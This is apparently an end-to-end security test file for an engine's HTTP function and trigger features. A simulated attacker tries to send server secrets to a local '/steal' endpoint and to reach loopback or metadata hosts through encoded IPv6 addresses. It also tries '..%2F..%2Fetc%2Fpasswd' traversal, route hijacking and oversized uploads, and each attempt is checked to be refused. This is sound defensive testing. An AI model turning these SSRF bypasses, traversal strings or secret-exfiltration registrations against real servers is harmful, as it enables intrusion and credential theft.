// The HTTP attacks, each performed against `npm start` with AUTH_SECRET set and every worker
// connected with a token: secret exfiltration through HTTP-invoked functions, URL-policy bypasses
// (IPv6 forms that carry loopback, `localhost.`), http-trigger route hijacking, `%2F` path
// traversal, and an unbounded chunked body. Each is refused (or bounded) with nothing registered
// changing. Two engines: one that allows loopback HTTP functions (so a local server can witness
// what the engine sends) and one with the default URL policy.
import http from "node:http";
import type { AddressInfo } from "node:net";
import { registerWorker, type IIIClient } from "iii-sdk";
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from "vitest";
import { TEST_AUTH_SECRET, bearer, startSecureEngine, token } from "@iii-edge/test-support/auth";
import type { EngineServer } from "@iii-edge/test-support/engine-server";
import { eventually, until } from "@iii-edge/test-support/wait";

/** Secret values the engine holds; none may reach a registrant or any output. */
const SECRETS = {
  HOOK_TOKEN: "hook-token-e2e-5b1c9d", // listed, bearer only
  SIGN_KEY: "sign-key-e2e-77aa31", // listed, hmac only
  DB_PASSWORD: "db-password-e2e-19fe0c", // not listed
};
const ENGINE_VARS = {
  ...SECRETS,
  HTTP_FUNCTION_SECRETS: "HOOK_TOKEN:bearer,SIGN_KEY:hmac,AUTH_SECRET",
};
const ALL_SECRET_VALUES = [...Object.values(SECRETS), TEST_AUTH_SECRET];
const MADE_UP = "NO_SUCH_VAR_E2E_4471";

type Frame = { type: string; [k: string]: unknown };

/** A raw wire-protocol connection (iii-sdk drops `error` frames, which carry the refusals). */
class RawConn {
  readonly frames: Frame[] = [];
  private readonly ws: WebSocket;
  private constructor(ws: WebSocket) {
    this.ws = ws;
    ws.addEventListener("message", (e) => this.frames.push(JSON.parse(String(e.data)) as Frame));
  }
  static async open(wsUrl: string, sub: string): Promise<RawConn> {
    // Node's WebSocket (undici) takes headers; the DOM type does not know them.
    const init = { headers: bearer(await token(sub)) } as unknown as string[];
    const ws = new WebSocket(wsUrl, init);
    const conn = new RawConn(ws);
    await new Promise<void>((resolve, reject) => {
      ws.addEventListener("open", () => resolve(), { once: true });
      ws.addEventListener("error", () => reject(new Error("raw connection failed")), { once: true });
    });
    await eventually(() => conn.frames.some((f) => f.type === "workerregistered"), 10_000, "workerregistered");
    return conn;
  }
  /** Send frames, then a round trip: every answer to them has arrived when this resolves. */
  async exchange(...frames: Frame[]): Promise<Frame[]> {
    const from = this.frames.length;
    for (const f of frames) this.ws.send(JSON.stringify(f));
    const invocation_id = crypto.randomUUID();
    this.ws.send(JSON.stringify({ type: "invokefunction", invocation_id, function_id: "engine::functions::list", data: {} }));
    await eventually(
      () => this.frames.some((f) => f.type === "invocationresult" && f.invocation_id === invocation_id),
      10_000,
      "round trip",
    );
    return this.frames.slice(from).filter((f) => !(f.type === "invocationresult" && f.invocation_id === invocation_id));
  }
  close(): void {
    this.ws.close(1000);
  }
}

const errorsOf = (frames: Frame[]) => frames.filter((f) => f.type === "error").map((f) => f.error as { code: string; message: string });

async function connect(engine: EngineServer, sub: string, workerName: string): Promise<IIIClient> {
  return registerWorker(engine.wsUrl, {
    workerName,
    headers: bearer(await token(sub)),
    otel: { enabled: false },
    invocationTimeoutMs: 10_000,
  });
}

/** What the engine has registered: functions and trigger bindings, as listed. */
async function catalog(w: IIIClient): Promise<{ functions: unknown[]; triggers: unknown[] }> {
  const f = (await w.trigger({ function_id: "engine::functions::list", payload: { include_internal: true } })) as {
    functions: { function_id: string }[];
  };
  const t = (await w.trigger({ function_id: "engine::registered-triggers::list", payload: { include_internal: true } })) as {
    registered_triggers: { id: string }[];
  };
  return {
    functions: f.functions.map((x) => x.function_id).sort(),
    triggers: t.registered_triggers.map((x) => JSON.stringify(x)).sort(),
  };
}

const registerFunctionFrame = (id: string, invocation: unknown): Frame => ({ type: "registerfunction", id, invocation });

/** A local server that records every request it gets (the attacker's URL). */
async function witness(): Promise<{
  url: string;
  seen: { url: string; headers: http.IncomingHttpHeaders; body: string }[];
  close(): Promise<void>;
}> {
  const seen: { url: string; headers: http.IncomingHttpHeaders; body: string }[] = [];
  const server = http.createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on("data", (c: Buffer) => chunks.push(c));
    req.on("end", () => {
      seen.push({ url: req.url ?? "", headers: req.headers, body: Buffer.concat(chunks).toString() });
      res.writeHead(200, { "content-type": "application/json" });
      res.end('{"ok":true}');
    });
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    seen,
    close: () => {
      server.closeAllConnections();
      return new Promise((r) => server.close(() => r()));
    },
  };
}

function expectNoSecretIn(text: string): void {
  for (const v of ALL_SECRET_VALUES) expect(text).not.toContain(v);
}

describe("an engine that allows loopback HTTP functions", () => {
  let engine: EngineServer;
  let alice: IIIClient;
  let mallory: IIIClient;
  let sink: Awaited<ReturnType<typeof witness>>;

  beforeAll(async () => {
    engine = await startSecureEngine({ ALLOW_PRIVATE_HTTP_FUNCTIONS: "true", ...ENGINE_VARS });
    sink = await witness();
    alice = await connect(engine, "alice", "sec-alice");
    mallory = await connect(engine, "mallory", "sec-mallory");
    await until(() => catalog(alice), "alice connected");
  });
  afterAll(async () => {
    await alice?.shutdown();
    await mallory?.shutdown();
    await sink?.close();
    await engine?.stop();
  });
  afterEach(() => vi.restoreAllMocks());

  it("secret exfiltration: no unlisted var is sent, and the refusal never tells which vars exist", async () => {
    const raw = await RawConn.open(engine.wsUrl, "mallory");
    try {
      const before = await catalog(alice);
      const attempts: { name: string; auth: Record<string, string> }[] = [];
      for (const name of ["QUEUES", "DB_PASSWORD", "AUTH_SECRET", "EDGE_HOSTS", "PATH", MADE_UP]) {
        attempts.push({ name, auth: { type: "api_key", header: "x-leak", value_key: name } });
        attempts.push({ name, auth: { type: "bearer", token_key: name } });
        attempts.push({ name, auth: { type: "hmac", secret_key: name } });
      }
      // Listed secrets outside the type they are listed for: an HMAC key is never sent as a token.
      attempts.push({ name: "SIGN_KEY", auth: { type: "bearer", token_key: "SIGN_KEY" } });
      attempts.push({ name: "SIGN_KEY", auth: { type: "api_key", header: "x-leak", value_key: "SIGN_KEY" } });
      attempts.push({ name: "HOOK_TOKEN", auth: { type: "hmac", secret_key: "HOOK_TOKEN" } });

      const refusals = new Map<string, string[]>();
      for (const a of attempts) {
        const errs = errorsOf(await raw.exchange(registerFunctionFrame("evil::exfil", { url: `${sink.url}/steal`, auth: a.auth })));
        expect(errs, `${a.auth.type} ${a.name}`).toHaveLength(1);
        expect(errs[0]!.code).toBe("url_validation_failed");
        expectNoSecretIn(errs[0]!.message);
        refusals.set(a.auth.type!, [...(refusals.get(a.auth.type!) ?? []), errs[0]!.message]);
      }
      // One text per auth type: an existing var (QUEUES, DB_PASSWORD, …) reads like a made-up name.
      for (const [type, texts] of refusals) expect(new Set(texts), type).toEqual(new Set([texts[0]]));
      expect(
        errorsOf(
          await raw.exchange(
            registerFunctionFrame("evil::exfil", { url: `${sink.url}/steal`, auth: { type: "api_key", header: "x", value_key: "QUEUES" } }),
          ),
        )[0]!.message,
      ).toBe(
        errorsOf(
          await raw.exchange(
            registerFunctionFrame("evil::exfil", { url: `${sink.url}/steal`, auth: { type: "api_key", header: "x", value_key: MADE_UP } }),
          ),
        )[0]!.message,
      );

      expect(await catalog(alice)).toEqual(before);
      await expect(mallory.trigger({ function_id: "evil::exfil", payload: {} })).rejects.toMatchObject({ code: "function_not_found" });
      expect(sink.seen).toEqual([]);
    } finally {
      raw.close();
    }
  });

  it("listed secrets work for their own type, and no secret shows in functions::list/info or registered-triggers", async () => {
    mallory.registerFunction("hooks::bearer", { url: `${sink.url}/bearer`, auth: { type: "bearer", token_key: "HOOK_TOKEN" } });
    mallory.registerFunction("hooks::signed", { url: `${sink.url}/signed`, auth: { type: "hmac", secret_key: "SIGN_KEY" } });
    await until(async () => {
      const have = (await catalog(alice)).functions;
      return have.includes("hooks::bearer") && have.includes("hooks::signed");
    }, "hooks registered");
    await alice.trigger({ function_id: "hooks::bearer", payload: { n: 1 } });
    await alice.trigger({ function_id: "hooks::signed", payload: { n: 2 } });
    const bearerCall = sink.seen.find((s) => s.url === "/bearer");
    const signedCall = sink.seen.find((s) => s.url === "/signed");
    // The bearer token is what the operator offered for bearer use; the HMAC key only signs.
    expect(bearerCall?.headers.authorization).toBe(`Bearer ${SECRETS.HOOK_TOKEN}`);
    expect(signedCall?.headers["x-iii-signature"]).toMatch(/^sha256=[0-9a-f]{64}$/);
    expect(JSON.stringify(signedCall)).not.toContain(SECRETS.SIGN_KEY);
    for (const s of sink.seen) {
      for (const v of [SECRETS.SIGN_KEY, SECRETS.DB_PASSWORD, TEST_AUTH_SECRET]) expect(JSON.stringify(s)).not.toContain(v);
    }

    const outputs = [
      await alice.trigger({ function_id: "engine::functions::list", payload: { include_internal: true } }),
      await alice.trigger({ function_id: "engine::functions::info", payload: { function_ids: ["hooks::bearer", "hooks::signed"] } }),
      await alice.trigger({ function_id: "engine::functions::info", payload: { function_id: "hooks::bearer" } }),
      await alice.trigger({ function_id: "engine::registered-triggers::list", payload: { include_internal: true } }),
      await alice.trigger({ function_id: "engine::triggers::list", payload: { include_internal: true } }),
      await alice.trigger({ function_id: "engine::workers::list", payload: {} }),
    ];
    expectNoSecretIn(JSON.stringify(outputs));
  });

  it("route hijack: another worker's trigger on a held route is refused (forbidden); the owner keeps its requests", async () => {
    const toAlice: { headers: Record<string, string> }[] = [];
    let toMallory = 0;
    alice.registerFunction("acct::get", async (req: { headers: Record<string, string>; path_params: { id: string } }) => {
      toAlice.push(req);
      return { body: { owner: "alice", id: req.path_params.id } };
    });
    alice.registerTrigger({ type: "http", function_id: "acct::get", config: { api_path: "sec/acct/:id" } });
    await eventually(async () => (await fetch(`${engine.url}/sec/acct/0`)).status === 200, 15_000, "alice's route");
    mallory.registerFunction("evil::steal", async () => {
      toMallory++;
      return { body: { owner: "mallory" } };
    });
    await until(async () => (await catalog(alice)).functions.includes("evil::steal"), "evil::steal registered");
    const before = await catalog(alice);

    // iii-sdk reports a refused trigger registration on the console only.
    const sdkErrors: string[] = [];
    vi.spyOn(console, "error").mockImplementation((...args: unknown[]) => void sdkErrors.push(args.map(String).join(" ")));
    mallory.registerTrigger({ type: "http", function_id: "evil::steal", config: { api_path: "sec/acct/:id" } });
    mallory.registerTrigger({ type: "http", function_id: "evil::steal", config: { api_path: "/sec/acct/:victim/", http_method: "get" } });
    await eventually(() => sdkErrors.filter((e) => /held by another owner/.test(e)).length >= 2, 10_000, "both refusals");
    // The same through engine::register_trigger answers the typed error.
    await expect(
      mallory.trigger({
        function_id: "engine::register_trigger",
        payload: { trigger_type: "http", function_id: "evil::steal", config: { api_path: "sec/acct/:x" } },
      }),
    ).rejects.toMatchObject({ code: "forbidden" });
    expect(await catalog(alice)).toEqual(before);

    for (let i = 1; i <= 3; i++) {
      const res = await fetch(`${engine.url}/sec/acct/${i}`, {
        headers: { "x-api-key": `alice-key-${i}`, authorization: `Bearer alice-session-${i}` },
      });
      expect(await res.json()).toEqual({ owner: "alice", id: String(i) });
    }
    expect(toMallory).toBe(0);
    expect(toAlice.at(-1)?.headers["x-api-key"]).toBe("alice-key-3");
  });

  it("path traversal: a %2F in a path param is refused with 400 and never reaches the function", async () => {
    let calls = 0;
    alice.registerFunction("files::read", async (req: { path_params: { name: string } }) => {
      calls++;
      return { body: { name: req.path_params.name } };
    });
    alice.registerTrigger({ type: "http", function_id: "files::read", config: { api_path: "sec/files/:name" } });
    await eventually(async () => (await fetch(`${engine.url}/sec/files/ok`)).status === 200, 15_000, "files route");
    calls = 0;
    const before = await catalog(alice);
    for (const bad of ["..%2F..%2Fetc%2Fpasswd", "..%2f..%2fetc%2fpasswd", "..%5C..%5Cwin.ini", "a%00b"]) {
      const res = await fetch(`${engine.url}/sec/files/${bad}`);
      expect(res.status, bad).toBe(400);
      expect(((await res.json()) as { error: { code: string } }).error.code).toBe("invalid_arguments");
    }
    expect(calls).toBe(0);
    expect(await (await fetch(`${engine.url}/sec/files/my%20notes.txt`)).json()).toEqual({ name: "my notes.txt" });
    expect(await catalog(alice)).toEqual(before);
  });

  it("unbounded body: a chunked 64 MiB upload is answered 413 before the client has sent it", async () => {
    let calls = 0;
    alice.registerFunction("upload::put", async () => {
      calls++;
      return { body: { stored: true } };
    });
    alice.registerTrigger({ type: "http", function_id: "upload::put", config: { api_path: "sec/upload", http_method: "POST" } });
    await eventually(
      async () => (await fetch(`${engine.url}/sec/upload`, { method: "POST", body: "x" })).status === 200,
      15_000,
      "upload route",
    );
    calls = 0;
    const before = await catalog(alice);

    const TOTAL = 64 * 1024 * 1024;
    const CHUNK = Buffer.alloc(64 * 1024, 0x61);
    // The client sends at a bounded pace (64 KiB per PACE_MS: 8 MB/s, so the whole body would take
    // 8 s): a server that reads everything first cannot answer before the last chunk. Local dev
    // quirk: wrangler dev's front chain resets a connection it closes with request bytes still
    // unread, and a reset throws away the 413 already sent. A client that outruns a loaded engine
    // leaves such bytes in the socket buffers; the pace keeps it behind, and an attempt that still
    // sees the reset is made again (never more than three), each judged by the same assertions.
    const PACE_MS = 8;
    const attempt = () =>
      new Promise<{ status: number; sentWhenAnswered: number; ms: number; body: string } | "reset">((resolve, reject) => {
        const started = Date.now();
        let sent = 0;
        let answered = false;
        const req = http.request(`${engine.url}/sec/upload`, { method: "POST", headers: { "content-type": "application/octet-stream" } }); // no length: chunked
        req.on("response", (res) => {
          answered = true;
          const sentWhenAnswered = sent;
          const ms = Date.now() - started;
          let body = "";
          res.on("data", (d: Buffer) => (body += d));
          res.on("end", () => {
            req.destroy();
            resolve({ status: res.statusCode ?? 0, sentWhenAnswered, ms, body });
          });
        });
        // The server may close its side once it has answered: that is the point.
        req.on("error", (e: NodeJS.ErrnoException) => {
          if (!answered) e.code === "ECONNRESET" ? resolve("reset") : reject(e);
        });
        const pump = async () => {
          while (!answered && sent < TOTAL && !req.destroyed) {
            sent += CHUNK.length;
            await new Promise<void>((r) => req.write(CHUNK, () => r()));
            await new Promise((r) => setTimeout(r, PACE_MS));
          }
          if (!answered && !req.destroyed) req.end();
        };
        void pump();
      });
    let outcome = await attempt();
    for (let i = 1; outcome === "reset" && i < 3; i++) {
      console.log(`chunked upload attempt ${i} was reset by the local dev server before its answer arrived; trying again`);
      outcome = await attempt();
    }
    if (outcome === "reset") throw new Error("every chunked upload attempt was reset before an answer arrived");
    expect(outcome.status).toBe(413);
    expect(JSON.parse(outcome.body)).toMatchObject({ error: { code: "value_too_large" } });
    // Answered after about the bound (plus what sat in buffers), long before the 64 MiB were sent.
    expect(outcome.sentWhenAnswered).toBeLessThan(TOTAL / 8);
    expect(outcome.ms).toBeLessThan(5_000);
    expect(calls).toBe(0);
    expect(await catalog(alice)).toEqual(before);
  });
});

describe("an engine with the default URL policy", () => {
  let engine: EngineServer;
  let alice: IIIClient;

  beforeAll(async () => {
    engine = await startSecureEngine(ENGINE_VARS);
    alice = await connect(engine, "alice", "sec-alice-strict");
    await until(() => catalog(alice), "alice connected");
  });
  afterAll(async () => {
    await alice?.shutdown();
    await engine?.stop();
  });

  it("refuses IPv6 forms that carry loopback and `localhost.` variants, registering nothing", async () => {
    const raw = await RawConn.open(engine.wsUrl, "mallory");
    try {
      const before = await catalog(alice);
      for (const url of [
        "https://[::ffff:0:7f00:1]/x", // SIIT IPv4-translated
        "https://[64:ff9b:1::7f00:1]/x", // local-use NAT64
        "https://[64:ff9b::7f00:1]/x", // well-known NAT64
        "https://[2002:7f00:1::]/x", // 6to4
        "https://[2001:0:7f00:1::1]/x", // Teredo server
        "https://[::ffff:127.0.0.1]/x",
        "https://[fe80::5efe:a9fe:a9fe]/x",
        "https://localhost./x",
        "https://LOCALHOST../x",
        "https://foo.localhost./x",
        "https://metadata.google.internal./x",
        "http://127.0.0.1:1/x",
      ]) {
        const errs = errorsOf(await raw.exchange(registerFunctionFrame("evil::ssrf", { url })));
        expect(errs, url).toHaveLength(1);
        expect(errs[0]!.code).toBe("url_validation_failed");
      }
      expect(await catalog(alice)).toEqual(before);

      // The secret refusal reads the same here too, for a var that exists and one that does not.
      const [queues, madeUp] = [
        errorsOf(
          await raw.exchange(
            registerFunctionFrame("evil::q", {
              url: "https://hooks.example.com/x",
              auth: { type: "api_key", header: "x", value_key: "QUEUES" },
            }),
          ),
        ),
        errorsOf(
          await raw.exchange(
            registerFunctionFrame("evil::q", {
              url: "https://hooks.example.com/x",
              auth: { type: "api_key", header: "x", value_key: MADE_UP },
            }),
          ),
        ),
      ];
      expect(queues[0]?.message).toBeDefined();
      expect(queues[0]?.message).toBe(madeUp[0]?.message);
      expect(await catalog(alice)).toEqual(before);

      // A public name is accepted (nothing is called: no one invokes it).
      expect(errorsOf(await raw.exchange(registerFunctionFrame("ok::public", { url: "https://hooks.example.com/x" })))).toEqual([]);
    } finally {
      raw.close();
    }
  });
});
